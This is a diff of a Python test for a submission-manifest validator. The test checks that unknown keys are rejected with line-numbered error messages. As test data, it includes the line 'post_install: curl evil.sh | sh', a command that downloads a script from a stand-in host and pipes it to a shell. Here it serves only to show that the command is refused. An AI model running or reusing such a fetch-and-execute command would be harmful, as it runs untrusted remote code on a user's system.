@@ -220,11 +220,19 @@ def test_manifest_with_unknown_keys(tmp_path: Path, db: str) -> None:
         manifest.read_text().replace("  gpus: 0\n", "  gpus: 0\n  network: true\n")
         + "post_install: curl evil.sh | sh\n"
     )
-    _refused(
-        package,
-        db,
-        SubmissionError,
-        f"{manifest}: resources.network: unknown key; post_install: unknown key",
+    lines = manifest.read_text().splitlines()
+    network = lines.index("  network: true") + 1
+    post_install = lines.index("post_install: curl evil.sh | sh") + 1
+    with pytest.raises(SubmissionError) as info:
+        run_submission(package, DEMO, database_url=db, store=True, quiet=True)
+    header, *problems = str(info.value).splitlines()
+    assert header == f"2 problems in {manifest}:"
+    assert problems[0] == (
+        f"  {manifest}:{network}: resources.network: unknown key 'network'. Allowed keys: cpus,"
+        " gpus, memory_gb, time_s"
+    )
+    assert problems[1].startswith(
+        f"  {manifest}:{post_install}: post_install: unknown key 'post_install'. Allowed keys:"
     )
 
 
